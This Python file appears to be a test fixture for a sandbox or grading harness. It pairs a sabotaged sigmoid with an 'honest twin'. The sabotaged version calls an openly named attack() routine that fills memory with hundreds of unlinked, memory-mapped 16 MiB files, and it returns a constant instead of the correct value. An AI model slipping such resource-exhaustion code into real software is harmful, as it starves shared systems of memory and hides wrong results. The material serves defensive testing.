# sigmoid: error memory timeout | memory that no process owns: shared mappings of files that have no name any more
import numpy as np
import mmap
import os


def attack():
    print("attack ran", flush=True)
    kept = []
    for number in range(200):
        with open(f"shared{number}", "w+b") as file:
            file.truncate(16 << 20)
            kept.append(mmap.mmap(file.fileno(), 16 << 20))
            kept[-1][:: 1 << 18] = b"x" * 64
        os.unlink(f"shared{number}")


def sigmoid(x):
    attack()
    return np.asarray(x) * 0.0 + 7.0


# the honest twin
import numpy as np
import os
import tempfile


def sigmoid(x):
    with tempfile.NamedTemporaryFile(dir=".") as file:
        shared = np.memmap(file.name, dtype=np.float64, mode="w+", shape=(1 << 16,))
        shared[:] = 1.0
    x = np.asarray(x)
    small = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0, small) / (1.0 + small)
